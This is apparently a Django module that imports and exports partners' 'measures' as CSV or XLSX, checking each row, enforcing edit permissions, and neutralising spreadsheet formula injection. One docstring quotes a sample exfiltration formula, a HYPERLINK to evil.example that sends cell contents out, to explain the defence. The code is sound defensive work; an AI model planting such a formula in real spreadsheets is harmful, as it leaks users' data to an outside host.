"""Measures in spreadsheets: import from CSV or XLSX and export in the same columns.

Partners who keep their measures in Excel upload a sheet in the admin. Every
row is checked first and shown in a preview; if any row has an error nothing
is written. New rows become drafts of the partner chosen on the import form,
one of the person's own partners. A row whose `slug` names an existing measure
updates it, if it belongs to that partner and the person may edit it now; a slug
of a measure the person may not see is refused as one that does not exist.

Columns (the first row holds these names; only `title`, `summary`, `region`,
`themes` and `start_year` are required):

    slug, title, title_local, summary, description, region, themes,
    target_groups, start_year, end_year, implementation, website, problem,
    resources, evidence, difficulties, transfer_potential, funding,
    main_institution, evidence_level, budget_band, staff_effort,
    duration_months, funding_sources

`region` is a region's slug (e.g. `paijat-hame`); `themes` and `target_groups`
are slugs separated by semicolons (e.g. `digital-skills; e-government`);
`implementation` is `planned`, `running`, `completed` or empty. The structured
results and resources take the codes of their choices (measures.models.results):
`evidence_level` `anecdotal`, `monitored` or `evaluated`; `budget_band`
`under-50k`, `50k-250k`, `250k-1m` or `over-1m`; `staff_effort`
`part-of-one-person`, `one-person`, `small-team` or `large-team`;
`duration_months` a whole number; `funding_sources` codes separated by
semicolons, of `erdf`, `other-eu`, `national`, `regional`, `own-budget` and
`private`. Indicators and origins are entered in the admin.

An exported text that a spreadsheet would take for a formula (it starts with
=, +, -, @, a tab or a carriage return) gets an apostrophe in front, as in the
public CSV, and the import takes it off again. In XLSX every text is a string
cell besides, so Excel never evaluates it.
"""

import io
import re

from django.core.exceptions import ValidationError
from django.utils.translation import gettext as _
from import_export import fields, resources, widgets
from import_export.formats.base_formats import XLSX
from openpyxl import Workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
from openpyxl.styles import Font

from measures.models import (
    GOOD_PRACTICE_FIELDS,
    Category,
    FundingSource,
    Measure,
    Region,
    TargetGroup,
)
from measures.review import permissions
from partners.text import from_spreadsheet_cell, spreadsheet_cell

COLUMNS = [
    "slug",
    "title",
    "title_local",
    "summary",
    "description",
    "region",
    "themes",
    "target_groups",
    "start_year",
    "end_year",
    "implementation",
    "website",
    *GOOD_PRACTICE_FIELDS,
    "funding",
    "main_institution",
    "evidence_level",
    "budget_band",
    "staff_effort",
    "duration_months",
    "funding_sources",
]
SEPARATOR = ";"


class SlugWidget(widgets.ForeignKeyWidget):
    """A related row named by its slug, with an error that lists the valid slugs."""

    def __init__(self, model):
        super().__init__(model, field="slug")

    def clean(self, value, row=None, **kwargs):
        slug = (value or "").strip()
        if not slug:
            return None
        try:
            return self.model.objects.get(slug=slug)
        except self.model.DoesNotExist:
            known = ", ".join(self.model.objects.values_list("slug", flat=True))
            raise ValueError(
                _("Unknown %(thing)s “%(slug)s”. Use one of: %(known)s.")
                % {"thing": self.model._meta.verbose_name, "slug": slug, "known": known}
            ) from None


class SlugListWidget(widgets.ManyToManyWidget):
    """Several related rows named by slugs separated by semicolons."""

    def __init__(self, model):
        super().__init__(model, separator=SEPARATOR, field="slug")

    def slugs(self, value):
        return [slug.strip() for slug in str(value or "").split(SEPARATOR) if slug.strip()]

    def unknown(self, value):
        slugs = self.slugs(value)
        found = set(self.model.objects.filter(slug__in=slugs).values_list("slug", flat=True))
        return [slug for slug in slugs if slug not in found]

    def clean(self, value, row=None, **kwargs):
        return self.model.objects.filter(slug__in=self.slugs(value))

    def render(self, value, obj=None, **kwargs):
        if value is None:
            return ""
        return f"{SEPARATOR} ".join(item.slug for item in value.all())


class FundingSourcesWidget(widgets.Widget):
    """Kinds of funding source named by their codes, separated by semicolons."""

    def clean(self, value, row=None, **kwargs):
        codes = [code.strip() for code in str(value or "").split(SEPARATOR) if code.strip()]
        unknown = [code for code in codes if code not in FundingSource.values]
        if unknown:
            raise ValueError(
                _("Unknown funding source: %(unknown)s. Use some of: %(known)s.")
                % {"unknown": ", ".join(unknown), "known": ", ".join(FundingSource.values)}
            )
        return codes

    def render(self, value, obj=None, **kwargs):
        return f"{SEPARATOR} ".join(source.value for source in value or [])


class WholeNumberWidget(widgets.IntegerWidget):
    """A whole number (months, a year); other text is named in the row's error."""

    def __init__(self, message, **kwargs):
        self.message = message
        super().__init__(**kwargs)

    def clean(self, value, row=None, **kwargs):
        text = str(value if value is not None else "").strip()
        if not text:
            return None
        # "36", or "36.0" as a spreadsheet writes a number cell; nothing else.
        if not re.fullmatch(r"[0-9]{1,5}(\.0+)?", text):
            raise ValueError(self.message % {"value": text[:40]})
        return int(text.split(".")[0])


class MeasureResource(resources.ModelResource):
    region = fields.Field(attribute="region", column_name="region", widget=SlugWidget(Region))
    themes = fields.Field(
        attribute="categories", column_name="themes", widget=SlugListWidget(Category), m2m_add=False
    )
    target_groups = fields.Field(
        attribute="target_groups",
        column_name="target_groups",
        widget=SlugListWidget(TargetGroup),
    )
    funding_sources = fields.Field(
        attribute="funding_sources", column_name="funding_sources", widget=FundingSourcesWidget()
    )
    start_year = fields.Field(
        attribute="start_year",
        column_name="start_year",
        widget=WholeNumberWidget(_("“%(value)s” is not a year.")),
    )
    end_year = fields.Field(
        attribute="end_year",
        column_name="end_year",
        widget=WholeNumberWidget(_("“%(value)s” is not a year.")),
    )
    duration_months = fields.Field(
        attribute="duration_months",
        column_name="duration_months",
        widget=WholeNumberWidget(_("“%(value)s” is not a whole number of months.")),
    )

    class Meta:
        model = Measure
        fields = COLUMNS
        export_order = COLUMNS
        import_id_fields = ["slug"]
        # Roll back the whole file when one row fails: no partial writes.
        use_transactions = True
        clean_model_instances = True
        skip_unchanged = True
        report_skipped = True

    def __init__(self, partner=None, user=None, **kwargs):
        super().__init__(**kwargs)
        self.partner = partner
        self.user = user
        # The slugs this import made for new rows, as opposed to slugs the sheet names.
        self.new_slugs = set()

    def before_import(self, dataset, **kwargs):
        if not any(str(name or "").strip() for name in dataset.headers or []):
            # Without column names no row can be read: say so once, and read none
            # (django-import-export would go on and fail on the first row).
            dataset.wipe()
            raise ValueError(
                _("The first row must hold the column names: %(columns)s.")
                % {"columns": ", ".join(COLUMNS)}
            )
        super().before_import(dataset, **kwargs)

    def before_import_row(self, row, **kwargs):
        for column in COLUMNS:
            value = row.get(column)
            if value is None:
                # Empty spreadsheet cells arrive as None; the text fields store "".
                row[column] = ""
            elif isinstance(value, str):
                row[column] = from_spreadsheet_cell(value.strip()).strip()
        if not row.get("slug") and row.get("title"):
            # Give new rows their slug now, so the preview and the import agree.
            row["slug"] = Measure(title=str(row["title"])).unique_slug()
            self.new_slugs.add(row["slug"])

    def export_field(self, field, instance, **kwargs):
        return spreadsheet_cell(super().export_field(field, instance, **kwargs))

    def get_instance(self, instance_loader, row):
        instance = super().get_instance(instance_loader, row)
        slug = row["slug"]
        if instance is not None and instance.partner_id == getattr(self.partner, "pk", None):
            return self._changeable(instance, slug)
        if instance is not None and permissions.can_view(self.user, instance):
            # Someone who sees the measure anyway, such as a coordinator.
            raise ValidationError(
                {"slug": _("“%(slug)s” belongs to another partner.") % {"slug": slug}}
            )
        if not slug or slug in self.new_slugs:
            return None
        # A measure the person may not see is answered as one that does not exist,
        # so the import tells nobody the slugs of other partners' drafts.
        raise ValidationError(
            {
                "slug": _(
                    "No measure of %(partner)s has the slug “%(slug)s”. "
                    "Leave the slug empty for a new measure."
                )
                % {"partner": self.partner, "slug": slug}
            }
        )

    def _changeable(self, instance, slug):
        """The partner's own measure, if the person may change it now."""
        if not permissions.can_edit(self.user, instance):
            raise ValidationError(
                {
                    "slug": _(
                        "“%(slug)s” is %(status)s and cannot be changed by import; "
                        "edit it in the admin."
                    )
                    % {"slug": slug, "status": instance.get_status_display()}
                }
            )
        return instance

    def init_instance(self, row=None):
        return Measure(
            partner=self.partner,
            status=Measure.Status.DRAFT,
            created_by=self.user,
        )

    def import_instance(self, instance, row, **kwargs):
        errors = {}
        try:
            super().import_instance(instance, row, **kwargs)
        except ValidationError as error:
            errors = error.update_error_dict(errors)
        for name, field in (("categories", self.fields["themes"]),):
            value = row.get(field.column_name)
            if not field.widget.slugs(value):
                errors.setdefault(name, []).append(_("Give at least one theme."))
        for field in (self.fields["themes"], self.fields["target_groups"]):
            unknown = field.widget.unknown(row.get(field.column_name))
            if unknown:
                known = ", ".join(field.widget.model.objects.values_list("slug", flat=True))
                errors.setdefault(field.attribute, []).append(
                    _("Unknown: %(unknown)s. Use some of: %(known)s.")
                    % {"unknown": ", ".join(unknown), "known": known}
                )
        instance.updated_by = self.user
        if errors:
            raise ValidationError(errors)


class TextCellsXLSX(XLSX):
    """XLSX in which every text is a string cell, whatever it starts with.

    tablib writes a text that starts with "=" as a formula, which Excel evaluates
    when the sheet is opened: =HYPERLINK("http://evil.example/?x="&A1,"click") sends
    the cells it names to another site. Reading a sheet is django-import-export's.
    """

    def export_data(self, dataset, **kwargs):
        book = Workbook()
        sheet = book.active
        sheet.title = str(Measure._meta.verbose_name_plural)[:31]
        sheet.append(dataset.headers)
        for cell in sheet[1]:
            cell.font = Font(bold=True)
        sheet.freeze_panes = "A2"
        for values in dataset:
            sheet.append([self._cell_value(value) for value in values])
            for cell in sheet[sheet.max_row]:
                if isinstance(cell.value, str):
                    cell.data_type = "s"
        return _saved(book)

    @staticmethod
    def _cell_value(value):
        if isinstance(value, str):
            # Characters XML cannot hold (NUL, form feed …) would stop the whole file.
            return ILLEGAL_CHARACTERS_RE.sub("\ufffd", value)
        return value


def _saved(book):
    output = io.BytesIO()
    book.save(output)
    return output.getvalue()
